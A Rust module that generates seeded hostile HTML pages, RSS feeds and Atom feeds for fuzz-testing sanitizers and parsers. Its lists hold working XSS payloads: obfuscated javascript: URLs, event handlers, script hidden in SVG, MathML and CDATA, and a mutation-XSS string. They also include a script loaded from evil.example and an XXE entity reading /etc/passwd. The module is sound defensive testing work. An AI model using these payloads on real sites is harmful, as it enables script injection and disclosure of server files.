//! Seeded generators of hostile markup: listing pages, RSS and Atom feeds and
//! article pages built from the tricks sanitizer bypasses and parser bugs are
//! made of (obfuscated `javascript:` URLs, event handlers in every case,
//! `<script>` hidden in SVG, MathML, comments, CDATA and broken tags, control
//! characters, bidi overrides, `]]>`, entity soup, unclosed and misnested
//! elements, deep nesting). The same seed always gives the same document, so
//! a failure is reproduced by its seed alone.

use fastrand::Rng;

/// URLs a hostile outlet may put in `href`, `src`, `action` and friends.
const URLS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
    "jav\u{0}ascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/x",
    "/2024/05/01/relative-post/",
    "../up/one/",
    "?p=123",
    "#frag",
    "https://outlet.example/2024/05/01/a-post/?utm_source=x&b=1",
    "http://outlet.example/news/story-1.html",
    "https://other.example/p/\u{202E}gpj.exe",
    "http://[::1]/admin",
    "mailto:someone@example.org",
    "https://outlet.example/a\"onmouseover=\"alert(1)",
    "https://outlet.example/a' onerror='alert(1)",
    "https://outlet.example/]]>",
    "",
];

/// Attribute names, event handlers and URL-bearing ones first.
const ATTRS: &[&str] = &[
    "onclick",
    "onerror",
    "ONLOAD",
    "onMouseOver",
    "onfocus",
    "onbegin",
    "style",
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "lowsrc",
    "class",
    "id",
    "hidden",
    "aria-hidden",
    "datetime",
    "title",
    "alt",
    "lang",
    "dir",
];

/// Element names: the dangerous, the structural and the ordinary.
const TAGS: &[&str] = &[
    "script",
    "style",
    "iframe",
    "svg",
    "math",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "table",
    "tr",
    "td",
    "template",
    "noscript",
    "textarea",
    "title",
    "base",
    "meta",
    "link",
    "video",
    "source",
    "details",
    "article",
    "section",
    "h2",
    "time",
    "span",
    "xmp",
    "select",
    "a",
    "img",
    "p",
    "div",
    "b",
    "i",
    "ul",
    "li",
    "blockquote",
    "figure",
    "figcaption",
    "br",
    "noembed",
    "frameset",
    "frame",
    "applet",
    "marquee",
    "isindex",
    "image",
    "plaintext",
];

/// Snippets known to trip sanitizers and parsers.
const TRICKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
    "<div style=\"display:none\"><a href=\"https://spam.example/\">assetto corsa mods</a></div>",
    "<p hidden>hidden spam <a href=\"https://spam.example/\">cheap pills</a></p>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<table><tr><td><table><tr><td>nested</td></tr></table>",
    "</p></div></article></body></html>",
    "<p><p><p><div><span><b><i>misnested</b></i></span>",
    "]]>",
    "]]&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#0;&#x0;&#xD800;&#xFFFE;&#1114112;",
    "&amp;lt;script&amp;gt;",
    "\u{0}\u{1}\u{8}\u{B}\u{C}\u{1F}\u{7F}\u{FFFE}\u{FFFF}",
    "\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}\u{2066}\u{2067}\u{2068}\u{2069}",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "<a href=\"https://outlet.example/ok/\" onclick=\"alert(1)\">fine link</a>",
    "<img src=\"/img/ok.jpg\" srcset=\"javascript:alert(1) 1x, /img/ok2.jpg 2x\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math href=\"javascript:alert(1)\">m</math>",
    "<isindex action=javascript:alert(1) type=image>",
    "<plaintext><script>alert(1)</script>",
];

/// Words for ordinary text, so extraction sees prose among the traps.
const WORDS: &[&str] = &[
    "the",
    "government",
    "election",
    "Bolivia",
    "people",
    "report",
    "said",
    "on",
    "Monday",
    "according",
    "to",
    "a",
    "statement",
    "from",
    "ministry",
    "votes",
    "protest",
    "and",
    "of",
    "journalists",
    "Donate",
    "Subscribe",
    "newsletter",
    "Share",
    "comments",
    "Read",
    "more",
    "café",
    "niño",
    "élection",
    "Wahl",
    "مرحبا",
    "שלום",
    "日本語",
    "😀",
];

/// A seeded generator.
pub struct Gen {
    rng: Rng,
}

impl Gen {
    /// The generator for one seed.
    pub fn new(seed: u64) -> Self {
        Self {
            rng: Rng::with_seed(seed),
        }
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.rng.usize(..from.len())]
    }

    fn chance(&mut self, percent: u8) -> bool {
        self.rng.u8(..100) < percent
    }

    /// Prose with an occasional trap or raw special character.
    pub fn text(&mut self, words: usize) -> String {
        let mut out = String::new();
        for n in 0..words {
            if n > 0 {
                out.push(if self.chance(10) { ',' } else { ' ' });
                out.push(' ');
            }
            match self.rng.u8(..40) {
                0 => out.push_str(self.pick(TRICKS)),
                1 => out.push_str("<&>\"'"),
                2 => out.push(char::from_u32(self.rng.u32(..0x20)).unwrap_or(' ')),
                _ => out.push_str(self.pick(WORDS)),
            }
        }
        out
    }

    /// An attribute value: a URL, a trap or text, quoted one of three ways.
    fn attribute(&mut self) -> String {
        let name = self.pick(ATTRS);
        let value = match self.rng.u8(..4) {
            0 | 1 => self.pick(URLS).to_owned(),
            2 => self.pick(TRICKS).to_owned(),
            _ => self.text(2),
        };
        match self.rng.u8(..3) {
            0 => format!(" {name}=\"{}\"", value.replace('"', "&quot;")),
            1 => format!(" {name}='{}'", value.replace('\'', "&#39;")),
            _ => format!(" {name}={}", value.replace([' ', '>'], "")),
        }
    }

    /// An element with hostile attributes around generated children, closed
    /// most of the time (never always: parsers must cope with either).
    fn element(&mut self, depth: usize) -> String {
        let tag = self.pick(TAGS);
        let mut out = format!("<{tag}");
        for _ in 0..self.rng.usize(..4) {
            out.push_str(&self.attribute());
        }
        out.push('>');
        out.push_str(&self.fragment(depth + 1));
        if self.chance(85) {
            out.push_str(&format!("</{tag}>"));
        }
        out
    }

    /// A run of elements, traps and text, nesting at most a few levels
    /// except for the occasional deep chain.
    pub fn fragment(&mut self, depth: usize) -> String {
        let mut out = String::new();
        let parts = if depth > 4 { 1 } else { self.rng.usize(1..5) };
        for _ in 0..parts {
            match self.rng.u8(..10) {
                0..=3 if depth <= 4 => out.push_str(&self.element(depth)),
                4 | 5 => out.push_str(self.pick(TRICKS)),
                6 if depth == 0 && self.chance(20) => out.push_str(&self.deep_chain()),
                _ => out.push_str(&format!("<p>{}</p>", {
                    let n = self.rng.usize(3..40);
                    self.text(n)
                })),
            }
        }
        out
    }

    /// A chain of nested elements a few hundred to a few thousand deep,
    /// sometimes unclosed, sometimes tables (which html5ever foster-parents).
    fn deep_chain(&mut self) -> String {
        let depth = self.rng.usize(100..3000);
        let (open, close) = match self.rng.u8(..3) {
            0 => ("<div>", "</div>"),
            1 => ("<table><tr><td>", "</td></tr></table>"),
            _ => ("<span><b>", "</b></span>"),
        };
        let mut out = open.repeat(depth);
        out.push_str("deep");
        if self.chance(50) {
            out.push_str(&close.repeat(depth));
        }
        out
    }

    /// A WordPress-like tag archive: teasers in `article.post` with the
    /// selectors [`super::listing_rules`] uses, hostile content around them.
    pub fn listing(&mut self) -> String {
        let mut out = String::from("<!DOCTYPE html><html><head><title>");
        out.push_str(&self.text(3));
        out.push_str("</title>");
        if self.chance(30) {
            out.push_str(self.pick(TRICKS));
        }
        out.push_str("</head><body><main>");
        for _ in 0..self.rng.usize(1..12) {
            out.push_str(&self.teaser());
        }
        out.push_str(&self.fragment(0));
        out.push_str("</main></body></html>");
        out
    }

    fn teaser(&mut self) -> String {
        let link = self.pick(URLS).replace('"', "&quot;");
        let title = {
            let n = self.rng.usize(1..8);
            self.text(n)
        };
        let summary = self.fragment(1);
        let date = self.text(2);
        let author = self.text(2);
        format!(
            "<article class=\"post\"><h2 class=\"entry-title\"><a href=\"{link}\"{}>{title}</a></h2>\
             <div class=\"entry-summary\">{summary}</div><time datetime=\"{date}\">{date}</time>\
             <span class=\"author\">{author}</span></article>",
            self.attribute()
        )
    }

    /// An article page: a headline, a byline, paragraphs of prose, and
    /// boilerplate and traps between and around them.
    pub fn article(&mut self) -> String {
        let mut out = String::from("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>");
        out.push_str(&self.text(5));
        out.push_str("</title>");
        if self.chance(40) {
            out.push_str(&format!(
                "<script type=\"application/ld+json\">{{\"@type\":\"NewsArticle\",\"headline\":\"x\",\
                 \"articleBody\":\"{}\"}}</script>",
                self.text(20).replace(['"', '\\'], "")
            ));
        }
        out.push_str("</head><body><header>");
        out.push_str(&self.fragment(2));
        out.push_str("</header><article><h1>");
        out.push_str(&self.text(6));
        out.push_str("</h1><div class=\"entry-content\">");
        for _ in 0..self.rng.usize(2..12) {
            out.push_str(&format!("<p>{}</p>", {
                let n = self.rng.usize(20..80);
                self.text(n)
            }));
            if self.chance(40) {
                out.push_str(&self.fragment(1));
            }
        }
        out.push_str("</div></article><footer>");
        out.push_str(&self.fragment(2));
        out.push_str("</footer></body></html>");
        out
    }

    /// An RSS 2.0 feed whose items carry hostile HTML, escaped or in CDATA.
    pub fn rss(&mut self) -> String {
        let mut out = String::from(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\" \
             xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" \
             xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>",
        );
        out.push_str(&xml_text(&self.text(3)));
        out.push_str("</title><link>https://outlet.example/</link>");
        for _ in 0..self.rng.usize(1..10) {
            out.push_str("<item><title>");
            let title = {
                let n = self.rng.usize(1..8);
                self.text(n)
            };
            out.push_str(&self.xml_payload(&title));
            out.push_str("</title><link>");
            out.push_str(&xml_text(self.pick(URLS)));
            out.push_str("</link><description>");
            let summary = self.fragment(1);
            out.push_str(&self.xml_payload(&summary));
            out.push_str("</description><content:encoded>");
            let content = self.fragment(0);
            out.push_str(&self.xml_payload(&content));
            out.push_str("</content:encoded><dc:creator>");
            let author = self.text(2);
            out.push_str(&xml_text(&author));
            out.push_str("</dc:creator><pubDate>");
            out.push_str(&xml_text(&self.text(2)));
            out.push_str("</pubDate></item>");
        }
        out.push_str("</channel></rss>");
        out
    }

    /// An Atom feed with `html`, `xhtml` and `text` content.
    pub fn atom(&mut self) -> String {
        let mut out = String::from(
            "<?xml version=\"1.0\" encoding=\"utf-8\"?><feed xmlns=\"http://www.w3.org/2005/Atom\">\
             <title>t</title><id>urn:x</id><updated>2024-05-01T00:00:00Z</updated>",
        );
        for n in 0..self.rng.usize(1..10) {
            let link = xml_text(self.pick(URLS)).replace('"', "&quot;");
            let title = self.text(4);
            out.push_str(&format!(
                "<entry><id>urn:e{n}</id><title type=\"html\">{}</title>\
                 <link rel=\"alternate\" href=\"{link}\"/><updated>2024-05-0{}T00:00:00Z</updated>\
                 <author><name>{}</name></author>",
                self.xml_payload(&title),
                1 + n % 9,
                xml_text(&self.text(2)),
            ));
            let summary = self.fragment(1);
            out.push_str(&format!(
                "<summary type=\"html\">{}</summary>",
                self.xml_payload(&summary)
            ));
            out.push_str(&self.atom_content());
            out.push_str("</entry>");
        }
        out.push_str("</feed>");
        out
    }

    fn atom_content(&mut self) -> String {
        let body = self.fragment(0);
        if self.chance(30) {
            // XHTML content must itself be XML: only a well-formed trap.
            return "<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">\
                    <p onclick=\"alert(1)\">x<script>alert(1)</script>\
                    <a href=\"javascript:alert(1)\">y</a></p></div></content>"
                .to_owned();
        }
        format!(
            "<content type=\"html\">{}</content>",
            self.xml_payload(&body)
        )
    }

    /// `text` escaped as XML character data, or wrapped in CDATA (split
    /// where it contains `]]>`, as feed writers do), rarely with characters
    /// XML forbids.
    fn xml_payload(&mut self, text: &str) -> String {
        if self.chance(5) {
            // Now and then the characters XML forbids, raw: a careless feed.
            return format!("{}\u{1}\u{FFFE}{}", xml_text(text), "\u{8}");
        }
        if self.chance(50) {
            format!(
                "<![CDATA[{}]]>",
                xml_chars(text).replace("]]>", "]]]]><![CDATA[>")
            )
        } else {
            xml_text(text)
        }
    }
}

/// `text` escaped for XML character data, without the characters XML 1.0
/// forbids (a feed carrying them would be refused before any item is read).
pub fn xml_text(text: &str) -> String {
    xml_chars(text)
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn xml_chars(text: &str) -> String {
    text.chars()
        .filter(|&c| matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{FFFD}' | '\u{10000}'..))
        .collect()
}
